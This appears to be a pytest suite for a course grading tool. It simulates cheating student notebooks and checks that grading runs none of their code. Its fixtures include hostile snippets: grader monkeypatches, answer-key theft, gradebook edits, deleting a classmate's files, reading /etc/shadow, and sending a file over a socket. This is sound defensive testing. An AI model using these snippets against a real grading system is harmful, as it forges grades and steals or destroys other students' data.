"""Integrity: what a dishonest student can try, and that none of it works (grading as data).

One cohort of the toy course: a classmate (``victim``, full marks) and one student per attempt, each
starting from an honest partial submission (its honest score: ``HONEST``) and changed in one way. The
cohort is graded twice, in two copies of the course: with ``curriculum grade`` and with stock
``nbgrader autograde`` run with the course's ``nbgrader_config.py``. Every attempt must score its
honest score with a note for staff saying what was found, the classmate keeps full marks, nobody's
submitted files change, and no attempt's code runs: each attempt's code first writes a marker file,
and no marker may exist after grading.

So that these attempts are known to be real, the same cohort is also graded once the way the course
graded before grading as data (nbgrader's Execute runs every cell: curriculum.nbhelpers.
KERNEL_DESIGN_CONFIG), in a sandbox (its own home and IPython folder): there the code does run and
the score-forging attempts score above their honest score.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest
from toycourse import NAME, POINTS, make_course

from curriculum.staff.grade.cohort import grade_cohort
from curriculum.staff.course import Course
from curriculum.keys import read_keys
from curriculum.nbhelpers import KERNEL_DESIGN_CONFIG
from curriculum.staff.simulate import SimulatedStudent, simulate_submission
from curriculum.preprocessors.text import NOTES_TITLE

FULL = sum(POINTS.values())
HONEST = 6.71  # the "partial" profile's score (tests/staff/test_grade.py)
NOTEBOOK, ANSWERS = f"{NAME}.ipynb", f"{NAME}.answers.json"
ADDED = "Your notebook has a code cell that is not part of the assignment"


def _index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _tests(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")
            and c.cell_type == "code"]


# -- the attempts: code a student adds (each first writes its marker file) ---------------------------------
# {marker} is the marker file; cells run in autograded/<student>/99-toy/, three levels below the course.

CODE = {
    "patch-grader": "import curriculum.grading as g\n"
                    "g.Grader._report = lambda self, item, points, result, notes: g.Points(points)",
    "patch-scoring": "from curriculum import scoring\nfrom curriculum.scoring import Result\n"
                     "for _name in [n for n in dir(scoring) if n.startswith('score_')]:\n"
                     "    setattr(scoring, _name, lambda *a, **k: Result(1.0))",
    "patch-points": "from curriculum import scoring\nscoring.to_points = lambda fraction, points: float(points)",
    "module-swap": "import sys, types\nfake = types.ModuleType('curriculum.grading')\n"
                   "class Grader:\n    def __init__(self, *a, **k): pass\n"
                   "    def __getattr__(self, name): return lambda item, points=0, **k: points\n"
                   "fake.Grader = Grader\nsys.modules['curriculum.grading'] = fake",
    "input-hook": "get_ipython().input_transformers_post.append(\n"
                  "    lambda lines: ['pass\\n'] if any('HIDDEN TESTS' in l for l in lines) else lines)",
    "read-key": "from curriculum.answers import AnswerStore\nfrom curriculum.keys import read_keys\n"
                "from curriculum.staff.simulate import correct_value\nstore = AnswerStore('99-toy')\n"
                "for k in read_keys('../../../source/99-toy/99-toy.ipynb'):\n"
                "    store.save(k.item, k.kind, correct_value(k))",
    "copy-classmate": "import shutil\n"
                      "shutil.copy('../../../submitted/victim/99-toy/99-toy.answers.json', '99-toy.answers.json')",
    "write-gradebook": "import sqlite3\ndb = sqlite3.connect('../../../gradebook.db')\n"
                       "db.execute('UPDATE grade SET manual_score = 0, extra_credit = 50')\ndb.commit()",
    "delete-classmate": "import shutil\nshutil.rmtree('../../../submitted/victim', ignore_errors=True)",
    "ipython-startup": "import os\nd = os.path.join(get_ipython().profile_dir.location, 'startup')\n"
                       "os.makedirs(d, exist_ok=True)\nopen(os.path.join(d, '00-full-marks.py'), 'w').write(\n"
                       "    'import curriculum.scoring as s\\ns.to_points = lambda f, p: float(p)\\n')",
    "socket": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
              "s.sendall(open('../../../source/99-toy/99-toy.ipynb', 'rb').read())",
    "read-secrets": "print(open('/etc/shadow').read()[:200])\n"
                    "print(open('../../../submitted/victim/99-toy/99-toy.answers.json').read())",
    "exit-kernel": "import os\nos._exit(0)",
    "forge-result": "import json, os, time\n"
                    "os.write(1, ('@@curriculum-grade-result ' + json.dumps({{'success': True, 'log': '', "
                    "'error': ''}}) + '\\n').encode())\ntime.sleep(120)",
}
#: Attempts that, where student code runs, raise the student's own score
FORGES_SCORE = {"patch-grader", "patch-scoring", "patch-points", "module-swap", "input-hook", "read-key",
                "copy-classmate", "retyped-cell", "stripped-setup"}


def _marker_code(name, markers, port):
    return f"open({str(markers / name)!r}, 'w').close()\n" + CODE.get(name, CODE["patch-points"]).format(port=port)


def _add_cell(name):
    def change(nb, folder, ctx):
        nb.cells.insert(_index(nb, "q1-widget") + 1, nbformat.v4.new_code_cell(_marker_code(name, *ctx)))
    return change


def _retyped_cell(nb, folder, ctx):
    """A lesson (markdown) cell retyped to code, holding code."""
    i = next(i for i, c in enumerate(nb.cells) if c.cell_type == "markdown" and "nbgrader" not in c.metadata)
    nb.cells[i] = nbformat.v4.new_code_cell(_marker_code("retyped-cell", *ctx), id=nb.cells[i].id)


def _stripped_setup(nb, folder, ctx):
    """Code put into a locked cell whose grading metadata was removed (so nbgrader cannot restore it)."""
    cell = nb.cells[_index(nb, "setup")]
    del cell.metadata["nbgrader"]
    cell.source = _marker_code("stripped-setup", *ctx) + "\n" + cell.source


def _skip_tags(nb, folder, ctx):
    """No code: tags that make nbclient skip the test cells (they would then score full marks)."""
    for cell in _tests(nb):
        cell.metadata["tags"] = ["skip-execution"]


def _grade_flags(nb, folder, ctx):
    """No code: the test cells no longer marked as graded."""
    for cell in _tests(nb):
        cell.metadata.nbgrader["grade"] = False


def _forged_outputs(nb, folder, ctx):
    """No code: the test cells carry full-marks outputs typed into the notebook file."""
    for cell in _tests(nb):
        points = cell.metadata.nbgrader["points"]
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": str(points)},
                                               execution_count=1)]


def _edited_test(nb, folder, ctx):
    cell = nb.cells[_index(nb, "q2-multiple-test")]
    cell.source = "2  # full marks"


def _symlink(nb, folder, ctx):
    """No code: the answer file is a link to the classmate's."""
    (folder / ANSWERS).unlink()
    (folder / ANSWERS).symlink_to(folder.parents[1] / "victim" / NAME / ANSWERS)


ATTEMPTS = {name: (_add_cell(name), ADDED) for name in CODE}
ATTEMPTS.update({
    "retyped-cell": (_retyped_cell, ADDED),
    "stripped-setup": (_stripped_setup, ADDED),
    "skip-tags": (_skip_tags, "The cell settings of the grading cell of `q1-single` were changed (`tags`)"),
    "grade-flags": (_grade_flags, "The grading settings of the grading cell of `q1-single` were changed "
                                  "(not marked as graded)"),
    "forged-outputs": (_forged_outputs, "The grading cell of `q1-single` came with outputs that grading did "
                                        "not write"),
    "edited-test": (_edited_test, "You changed the grading cell of `q2-multiple`; the original test was used."),
    "symlinked-answers": (_symlink, "The answer file 99-toy.answers.json could not be opened (it is a link to "
                                    "another file, and grading never follows links)"),
})


class Listener:
    """A socket on 127.0.0.1 that records every connection made to it while grading."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def _fingerprint(folder):
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


def _build(root: Path, markers: Path, port: int) -> Course:
    course = Course(make_course(root))
    release = course.generate(NAME) / NOTEBOOK
    keys = read_keys(course.source_notebook(NAME))
    submitted = course.root / "submitted"
    simulate_submission(release, submitted / "victim" / NAME, SimulatedStudent("victim", "complete"), keys)
    honest = submitted / "honest" / NAME
    simulate_submission(release, honest, SimulatedStudent("honest", "partial"), keys)
    for name, (change, _) in ATTEMPTS.items():
        folder = shutil.copytree(honest, submitted / name / NAME)
        nb = nbformat.read(folder / NOTEBOOK, 4)
        change(nb, folder, (markers, port))
        nbformat.write(nb, folder / NOTEBOOK)
    return course


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The cohort graded by `curriculum grade` and by stock `nbgrader autograde`, in a sandboxed home."""
    base = tmp_path_factory.mktemp("integrity")
    markers, home = base / "markers", base / "home"
    markers.mkdir()
    (home / ".ipython").mkdir(parents=True)
    listener = Listener()
    saved = {k: os.environ.get(k) for k in ("HOME", "IPYTHONDIR")}
    os.environ.update(HOME=str(home), IPYTHONDIR=str(home / ".ipython"))
    try:
        ours = _build(base / "ours", markers, listener.port)
        stock = _build(base / "stock", markers, listener.port)
        for course in (ours, stock):
            course.before = _fingerprint(course.root / "submitted")
        shutil.rmtree(markers)  # the simulated students' kernels wrote nothing there; start clean
        markers.mkdir()
        results = {r.student: r for r in grade_cohort(ours, NAME, workers=2, timeout=120, progress=False)}
        stock.autograde(NAME)
    finally:
        for key, value in saved.items():
            os.environ.pop(key) if value is None else os.environ.__setitem__(key, value)
        listener.close()
    return ours, stock, results, markers, home, listener


def _scores(course):
    return {s.student: s.auto_score for s in course.scores(NAME)}


def _notes(course, student):
    first = nbformat.read(course.root / "autograded" / student / NAME / NOTEBOOK, 4).cells[0]
    return first.source if first.cell_type == "markdown" and NOTES_TITLE in first.source else ""


def test_no_student_code_ran_anywhere(graded):
    _, _, _, markers, home, listener = graded
    assert sorted(p.name for p in markers.iterdir()) == []
    assert listener.connections == 0
    assert not list((home / ".ipython").rglob("*.py"))  # no start-up file written for later kernels


def test_curriculum_grade_graded_everyone(graded):
    ours, _, results, *_ = graded
    assert {s: r.status for s, r in results.items()} == {s: "graded" for s in [*ATTEMPTS, "victim", "honest"]}


@pytest.mark.parametrize("command", ["curriculum grade", "nbgrader autograde"])
@pytest.mark.parametrize("attempt", sorted(ATTEMPTS))
def test_each_attempt_scores_its_honest_score_with_a_note(graded, command, attempt):
    ours, stock, *_ = graded
    course = ours if command == "curriculum grade" else stock
    scores = _scores(course)
    assert scores[attempt] == HONEST
    assert ATTEMPTS[attempt][1] in _notes(course, attempt)
    assert scores["victim"] == FULL and scores["honest"] == HONEST


@pytest.mark.parametrize("command", ["curriculum grade", "nbgrader autograde"])
def test_nobody_elses_files_or_grades_changed(graded, command):
    ours, stock, *_ = graded
    course = ours if command == "curriculum grade" else stock
    assert _fingerprint(course.root / "submitted") == course.before
    with course.gradebook() as gb:
        for sub in gb.assignment_submissions(NAME):
            for nb in sub.notebooks:
                assert all(g.manual_score is None and not g.extra_credit for g in nb.grades), sub.student.id


def test_the_graded_notebook_shows_the_attempt_to_staff_without_running_it(graded):
    ours, *_ = graded
    nb = nbformat.read(ours.root / "autograded" / "read-key" / NAME / NOTEBOOK, 4)
    cell = next(c for c in nb.cells if c.cell_type == "code" and "read_keys" in c.source)
    assert cell.outputs == [] and cell.execution_count is None
    log = (ours.root / "reports" / NAME / "grading-logs" / "read-key.log").read_text()
    assert any("read-key, 99-toy:" in line and ADDED in line for line in log.splitlines() if "WARNING" in line)


def test_the_attempts_are_real_where_student_code_runs(graded, tmp_path):
    """Under the kernel design (student cells run), the attempts' code runs and forges scores."""
    ours, *_ = graded
    root = tmp_path / "kernel-design"
    shutil.copytree(ours.root, root, ignore=shutil.ignore_patterns("autograded", "reports", "feedback"))
    markers = Path(str(graded[3]))
    with open(root / "nbgrader_config.py", "a", encoding="utf-8") as config:
        config.write(KERNEL_DESIGN_CONFIG)
    home = tmp_path / "home"
    (home / ".ipython").mkdir(parents=True)
    env = dict(os.environ, HOME=str(home), IPYTHONDIR=str(home / ".ipython"),
               PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""))
    for student in sorted(FORGES_SCORE):
        subprocess.run([sys.executable, "-m", "nbgrader", "autograde", NAME, "--force", "--student", student],
                       cwd=root, env=env, capture_output=True, text=True, timeout=300)
    kernel = Course(root)
    scores = _scores(kernel)
    ran = {p.name for p in markers.iterdir()}
    try:
        assert FORGES_SCORE <= ran
        assert {s for s in FORGES_SCORE if scores.get(s, 0) > HONEST} == FORGES_SCORE, scores
    finally:
        for p in markers.iterdir():
            p.unlink()
